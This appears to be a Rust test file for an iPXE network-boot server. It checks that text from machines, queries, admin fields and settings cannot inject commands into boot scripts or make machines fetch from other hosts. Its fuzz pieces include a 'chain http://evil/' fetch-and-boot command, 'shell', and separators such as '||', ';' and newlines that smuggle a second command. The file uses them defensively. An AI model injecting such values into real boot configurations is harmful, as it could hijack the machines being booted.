//! T5: words of people, machines and queries in a boot script. Whatever they are, the machine runs
//! the commands of a script without them, and asks nobody but this server.
//!
//! The encoder alone is tried in `moxxie-core/tests/ipxe_hostile.rs`; here every way to it is.

use crate::util::recipes::{ASSIGNMENTS, PROFILES, debian, memtest};
use crate::util::text::percent;
use crate::util::{Machine, Site};
use moxxie_core::ipxe::interpreter::Trace;
use serde_json::{Value, json};
use std::collections::BTreeSet;

const MAC: &str = "52:54:00:00:00:45";
const STRANGER: &str = "52:54:00:00:00:46";

const PIECES: [&str; 30] = [
    "a",
    "n1",
    "shell",
    "chain http://evil/",
    "kernel",
    "reboot",
    " ",
    "\n",
    "\r\n",
    "\r",
    "\t",
    "\u{b}",
    "\u{c}",
    "\0",
    "\u{85}",
    "\u{2028}",
    "${net0/mac}",
    "${",
    "}",
    "$$",
    "||",
    "&&",
    ";",
    "#",
    "\\",
    ":x",
    "--",
    "'",
    "\"",
    "\u{1b}[2J",
];

/// Texts out of these pieces, the same ones every time.
fn texts(seed: u64, number: usize) -> Vec<String> {
    let mut state = seed;
    let mut roll = |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % below
    };
    let mut texts: Vec<String> = PIECES.iter().map(|piece| format!("a{piece}shell")).collect();
    texts.extend((0..number).map(|_| (0..1 + roll(6)).map(|_| PIECES[roll(PIECES.len())]).collect()));
    texts
}

fn commands(trace: &Trace) -> BTreeSet<String> {
    trace.commands.iter().filter_map(|command| command.first().cloned()).collect()
}

/// What a machine runs at best, and nothing else.
struct Judge {
    known: BTreeSet<String>,
}

impl Judge {
    fn look(&self, site: &Site, machine: &Machine, path: &str, what: &str) {
        let boot = machine.boot_from(site, path);
        let new: Vec<_> = commands(&boot.trace).difference(&self.known).cloned().collect();
        assert!(new.is_empty(), "{what}: {new:?} were run");
        let own = |url: &String| url.starts_with("http://10.0.0.1:8080/boot/");
        assert!(boot.asked.iter().all(|(url, _)| own(url)), "{what}: {:?}", boot.asked);
    }
}

async fn site() -> Site {
    let site = Site::with("[params]\nsite_word = \"from-the-site\"").await;
    let mut deb = debian("deb");
    deb["boot_params"] = json!(
        "x={{ params.x }} s={{ params.site_word }} serial={{ machine.serial }} n={{ machine.node_name }} p={{ machine.platform }}"
    );
    deb["params"] = json!({"x": "plain"});
    site.profile(deb).await;
    site.profile(memtest("memtest")).await;
    site.assign(MAC, "n1", "deb", json!({})).await;
    site
}

async fn judge(site: &Site) -> Judge {
    let mut known = BTreeSet::new();
    for machine in [
        Machine::bios(MAC),
        Machine::efi(MAC),
        Machine::bios(STRANGER),
        Machine::efi(STRANGER),
        Machine::bios(STRANGER).picks("p0"),
    ] {
        known.extend(commands(&machine.set("serial", "S1").boot(site).trace));
        site.arm(MAC).await;
    }
    // What fails on its way: labels that cannot be read, a kernel that is not there.
    known.extend(commands(&Machine::bios(MAC).set("uuid", "no-uuid").boot(site).trace));
    let uri = format!("{PROFILES}/deb");
    for kernel in ["nothing", "http://10.0.0.1:8080/boot/assets/deb/nothing", "linux"] {
        site.patch(&uri, json!({"kernel_path": kernel})).await.is(200);
        site.arm(MAC).await;
        known.extend(commands(&Machine::bios(MAC).set("serial", "S1").boot(site).trace));
    }
    site.arm(MAC).await;
    // An arm that is used up, an unknown profile, a profile by name.
    for path in ["/boot/memtest.ipxe", "/boot/nothing.ipxe", "/boot/deb.ipxe"] {
        known.extend(commands(&Machine::bios(STRANGER).boot_from(site, path).trace));
        known.extend(commands(&Machine::bios(MAC).boot_from(site, path).trace));
    }
    for command in ["shell", "reboot", "poweroff", "login", "config", "route"] {
        assert!(!known.contains(command), "{command} is in an honest script");
    }
    Judge { known }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t05_what_machines_say_of_themselves() {
    let site = site().await;
    let judge = judge(&site).await;
    for text in texts(5, 10) {
        let says = |machine: Machine| {
            let labels = ["serial", "product", "manufacturer", "asset", "hostname"];
            labels.iter().fold(machine, |machine, label| machine.set(label, &text))
        };
        let what = format!("{text:?}");
        site.arm(MAC).await;
        judge.look(&site, &says(Machine::bios(MAC)), "/boot/menu.ipxe", &what);
        judge.look(&site, &says(Machine::efi(STRANGER)), "/boot/menu.ipxe", &what);
        // As a query that no iPXE wrote.
        let word = percent(&text);
        for query in [
            format!("identified=1&mac={STRANGER}&product={word}"),
            format!("mac={word}"),
            format!("mac={STRANGER}&{word}=1"),
            format!("uuid={word}&serial={word}"),
        ] {
            judge.look(&site, &Machine::bios(STRANGER), &format!("/boot/menu.ipxe?{query}"), &query);
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t05_what_people_write() {
    let site = site().await;
    let judge = judge(&site).await;
    let (assignment, profile, menu) =
        (format!("{ASSIGNMENTS}/{MAC}"), format!("{PROFILES}/deb"), format!("{PROFILES}/memtest"));
    let plain = |field: &str| match field {
        "node_name" => json!("n1"),
        "kernel_path" => json!("linux"),
        "initrd_path" => json!("initrd.gz"),
        "boot_params_override" => json!({}),
        _ => Value::Null,
    };
    let (mut taken, mut refused) = (0, 0);
    for (number, text) in texts(7, 7).into_iter().enumerate() {
        let fields = [
            (&assignment, "node_name", json!(text)),
            (&assignment, "boot_params_override", json!({"x": text})),
            (&assignment, "serial", json!(text)),
            (&assignment, "local_boot", json!(text)),
            (&profile, "boot_params", json!(text)),
            (&profile, "kernel_path", json!(text)),
            (&profile, "initrd_path", json!(text)),
            (&profile, "kernel_path", json!(format!("http://10.0.0.1:8080/boot/assets/deb/{text}"))),
            (&menu, "description", json!(text)),
        ];
        // Each text in every fourth field: a boot each takes its time.
        for (uri, field, value) in fields.into_iter().skip(number % 4).step_by(4) {
            let answer = site.patch(uri, json!({field: value})).await;
            assert!(matches!(answer.status, 200 | 409 | 422), "{field} {text:?}: {}", answer.text());
            if answer.status != 200 {
                refused += 1;
                continue;
            }
            taken += 1;
            let what = format!("{field} {text:?}");
            if *uri == menu {
                judge.look(&site, &Machine::efi(STRANGER), "/boot/menu.ipxe", &what);
            } else {
                site.call("POST", &format!("{assignment}/arm")).send().await;
                let machine = Machine::bios(MAC).set("serial", "S1");
                judge.look(&site, &machine, "/boot/menu.ipxe", &what);
            }
            site.patch(uri, json!({field: plain(field)})).await.is(200);
        }
    }
    assert!(taken > 10 && refused > 20, "{taken} taken, {refused} refused");
}

/// A value of the site's settings goes the same way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t05_what_the_settings_say() {
    let judge = judge(&site().await).await;
    for text in ["a\nshell", "x || shell", "${net0/mac}", "a\\"] {
        let site = Site::with(&format!("[params]\nword = {}", json!(text))).await;
        let mut tool = memtest("tool");
        tool["boot_params"] = json!("x={{ params.word }} y");
        site.profile(memtest("memtest")).await;
        let saved = site.post(PROFILES, tool).await;
        assert!(matches!(saved.status, 201 | 422), "{text:?}: {}", saved.text());
        site.asset("memtest", "memtest.bin", b"x").await;
        if saved.status == 201 {
            site.asset("tool", "memtest.bin", b"x").await;
        }
        for path in ["/boot/menu.ipxe", "/boot/tool.ipxe"] {
            judge.look(&site, &Machine::bios(STRANGER), path, text);
        }
    }
}
